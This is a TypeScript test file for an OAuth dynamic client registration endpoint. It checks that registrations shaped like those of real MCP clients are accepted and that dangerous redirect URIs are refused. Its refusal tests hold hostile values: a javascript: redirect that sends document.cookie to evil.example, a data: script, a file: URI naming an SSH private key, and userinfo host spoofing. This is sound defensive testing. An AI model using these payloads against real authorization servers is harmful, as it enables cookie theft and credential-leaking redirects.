/**
 * Registrations as real MCP clients send them (issue 13): each body below has the shape the client
 * itself posts to a registration endpoint — its redirect URIs, grant and response types, scope and
 * extras such as `application_type` or `software_id` — and each must be registered and then
 * accepted at the authorization request with the redirect URI the client uses at run time (a
 * loopback client picks its port then). docs/clients.md lists what each client sends and how far
 * this file tests it. The dangerous shapes at the end are refused, whatever else the body holds.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startDevIdp, type DevIdp } from '../support/idp.ts';
import { pkcePair, startLoginServer, type LoginServer } from './login-server.ts';

let idp: DevIdp;
let server: LoginServer;

before(async () => {
  idp = await startDevIdp();
  server = await startLoginServer({ idp, upstreams: ['notes'] });
});
after(async () => {
  await server?.close();
  await idp?.close();
});

async function register(body: Record<string, unknown>) {
  const res = await fetch(`${server.issuer}/oauth/register`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

/** The authorization request the client makes next; resolves with where we send the browser. */
async function authorize(clientId: string, redirectUri: string, scope?: string) {
  const params = new URLSearchParams({
    client_id: clientId,
    redirect_uri: redirectUri,
    response_type: 'code',
    code_challenge: pkcePair().challenge,
    code_challenge_method: 'S256',
    state: 'client-state',
    resource: server.resource('notes'),
    ...(scope === undefined ? {} : { scope }),
  });
  const res = await fetch(`${server.issuer}/oauth/authorize?${params}`, { redirect: 'manual' });
  return { status: res.status, location: res.headers.get('location'), text: await res.text() };
}

const GRANTS = ['authorization_code', 'refresh_token'];

interface RealClient {
  /** The client and where its registration shape comes from. */
  name: string;
  body: Record<string, unknown>;
  /** Redirect URIs the client then uses at the authorization request. */
  usesAtRunTime: string[];
  /** `grant_types` we register it with. */
  registeredGrants?: string[];
  /** `scope` we register it with (`undefined`: none, so no restriction). */
  registeredScope?: string;
}

const CLIENTS: RealClient[] = [
  {
    name: 'Claude Code (loopback, port chosen per login)',
    body: {
      client_name: 'Claude Code (notes)',
      redirect_uris: ['http://localhost:52814/callback'],
      grant_types: GRANTS,
      response_types: ['code'],
      token_endpoint_auth_method: 'none',
    },
    usesAtRunTime: ['http://localhost:52814/callback'],
  },
  {
    name: 'VS Code (metadata lists grant_types_supported: the device grant is filtered out by VS Code itself)',
    body: {
      client_name: 'Visual Studio Code',
      client_uri: 'https://code.visualstudio.com',
      grant_types: GRANTS,
      response_types: ['code'],
      redirect_uris: ['https://insiders.vscode.dev/redirect', 'https://vscode.dev/redirect', 'http://127.0.0.1/', 'http://127.0.0.1:33418/'],
      scope: 'mcp',
      token_endpoint_auth_method: 'none',
      application_type: 'native',
    },
    // The loopback server gets whatever port is free; 33418 when it can.
    usesAtRunTime: ['http://127.0.0.1:33418/', 'http://127.0.0.1:49873/', 'https://vscode.dev/redirect', 'https://insiders.vscode.dev/redirect'],
    registeredScope: 'mcp',
  },
  {
    name: 'VS Code (no grant_types_supported to filter by: it asks for the device grant too)',
    body: {
      client_name: 'Visual Studio Code - Insiders',
      client_uri: 'https://code.visualstudio.com',
      grant_types: ['authorization_code', 'refresh_token', 'urn:ietf:params:oauth:grant-type:device_code'],
      response_types: ['code'],
      redirect_uris: ['https://insiders.vscode.dev/redirect', 'https://vscode.dev/redirect', 'http://127.0.0.1/', 'http://127.0.0.1:33418/'],
      token_endpoint_auth_method: 'none',
      application_type: 'native',
    },
    usesAtRunTime: ['http://127.0.0.1:33418/', 'https://insiders.vscode.dev/redirect'],
  },
  {
    name: 'Cursor (one private-use redirect per MCP server)',
    body: {
      client_name: 'Cursor',
      redirect_uris: ['cursor://anysphere.cursor-retrieval/oauth/user-notes/callback'],
      grant_types: GRANTS,
      response_types: ['code'],
      token_endpoint_auth_method: 'none',
    },
    usesAtRunTime: ['cursor://anysphere.cursor-retrieval/oauth/user-notes/callback'],
  },
  {
    name: 'Cursor (newer builds: a private-use, a hosted and a loopback redirect in one registration)',
    body: {
      client_name: 'Cursor',
      redirect_uris: ['cursor://anysphere.cursor-mcp/oauth/callback', 'https://www.cursor.com/agents/mcp/oauth/callback', 'http://localhost:8787/callback'],
      grant_types: GRANTS,
      response_types: ['code'],
      token_endpoint_auth_method: 'none',
    },
    usesAtRunTime: ['cursor://anysphere.cursor-mcp/oauth/callback', 'http://localhost:8787/callback', 'https://www.cursor.com/agents/mcp/oauth/callback'],
  },
  {
    name: 'Windsurf (private-use scheme)',
    body: {
      client_name: 'Windsurf',
      redirect_uris: ['windsurf://codeium.windsurf/mcp/oauth/callback'],
      grant_types: GRANTS,
      response_types: ['code'],
      token_endpoint_auth_method: 'none',
    },
    usesAtRunTime: ['windsurf://codeium.windsurf/mcp/oauth/callback'],
  },
  {
    name: 'MCP Inspector (two loopback redirects, an empty scope)',
    body: {
      redirect_uris: ['http://localhost:6274/oauth/callback', 'http://localhost:6274/oauth/callback/debug'],
      token_endpoint_auth_method: 'none',
      grant_types: GRANTS,
      response_types: ['code'],
      client_name: 'MCP Inspector',
      client_uri: 'https://github.com/modelcontextprotocol/inspector',
      scope: '',
    },
    usesAtRunTime: ['http://localhost:6274/oauth/callback', 'http://localhost:6274/oauth/callback/debug'],
  },
  {
    name: 'mcp-remote (loopback, software_id and software_version, the scope of our challenge)',
    body: {
      redirect_uris: ['http://localhost:3334/oauth/callback'],
      token_endpoint_auth_method: 'none',
      grant_types: GRANTS,
      response_types: ['code'],
      client_name: 'MCP CLI Client',
      client_uri: 'https://github.com/modelcontextprotocol/mcp-cli',
      software_id: '2e6dc280-f3c3-4e01-99a7-8181dbd1d23d',
      software_version: '0.1.29',
      scope: 'mcp',
    },
    usesAtRunTime: ['http://localhost:3334/oauth/callback'],
    registeredScope: 'mcp',
  },
  {
    name: 'Claude.ai (hosted callback)',
    body: {
      client_name: 'Claude',
      redirect_uris: ['https://claude.ai/api/mcp/auth_callback'],
      grant_types: GRANTS,
      response_types: ['code'],
      token_endpoint_auth_method: 'client_secret_post',
    },
    usesAtRunTime: ['https://claude.ai/api/mcp/auth_callback'],
  },
  {
    name: 'ChatGPT (hosted callback)',
    body: {
      client_name: 'ChatGPT',
      redirect_uris: ['https://chatgpt.com/connector_platform_oauth_redirect'],
      grant_types: GRANTS,
      response_types: ['code'],
      token_endpoint_auth_method: 'none',
    },
    usesAtRunTime: ['https://chatgpt.com/connector_platform_oauth_redirect'],
  },
];

describe('registrations as real clients send them', () => {
  for (const client of CLIENTS) {
    test(`${client.name}: registered as supported, and its redirect accepted at authorize`, async () => {
      const res = await register(client.body);
      assert.equal(res.status, 201, JSON.stringify(res.body));
      assert.deepEqual(res.body.redirect_uris, client.body.redirect_uris);
      assert.deepEqual(res.body.grant_types, client.registeredGrants ?? GRANTS);
      assert.deepEqual(res.body.response_types, ['code']);
      assert.equal(res.body.scope, client.registeredScope);
      assert.equal(res.body.client_name, client.body.client_name);

      for (const uri of client.usesAtRunTime) {
        const started = await authorize(res.body.client_id as string, uri, client.registeredScope);
        assert.equal(started.status, 302, `${uri}: ${started.text.slice(0, 300)}`);
        assert.ok(started.location?.startsWith(idp.issuer), `${uri}: the browser goes on to the IdP, not back with an error (${started.location})`);
      }
    });
  }

  test('VS Code’s device grant is left out of the stored client, not only out of the response', async () => {
    const res = await register(CLIENTS[2]!.body);
    const stored = await server.stores.clients.get(res.body.client_id as string);
    assert.deepEqual(stored?.grantTypes, GRANTS);
  });
});

describe('dangerous registrations, shaped like a real client’s', () => {
  const dangerous: Array<[string, string]> = [
    ['a javascript: redirect', 'javascript:fetch("https://evil.example/?"+document.cookie)'],
    ['a data: redirect', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['a file: redirect', 'file:///Users/me/.ssh/id_ed25519'],
    ['a vbscript: redirect', 'vbscript:msgbox(1)'],
    ['an about: redirect', 'about:srcdoc'],
    ['a blob: redirect', 'blob:https://vscode.dev/0b5b2f5c-7a0e-4c44-9d7d-1f3d3c7b2a10'],
    ['http on a public host', 'http://evil.example/callback'],
    ['a fragment', 'https://vscode.dev/redirect#code-goes-nowhere'],
    ['userinfo that dresses up the host', 'https://vscode.dev@evil.example/redirect'],
    ['userinfo on a private-use scheme', 'cursor://anysphere.cursor-retrieval@evil.example/oauth/callback'],
  ];
  for (const [why, uri] of dangerous) {
    test(`refuses ${why}, even beside good redirect URIs`, async () => {
      const res = await register({ ...CLIENTS[4]!.body, redirect_uris: ['cursor://anysphere.cursor-mcp/oauth/callback', uri] });
      assert.equal(res.status, 400, JSON.stringify(res.body));
      assert.equal(res.body.error, 'invalid_redirect_uri');
      assert.match(String(res.body.error_description), /^redirect_uris\[1\] /);
    });
  }
});
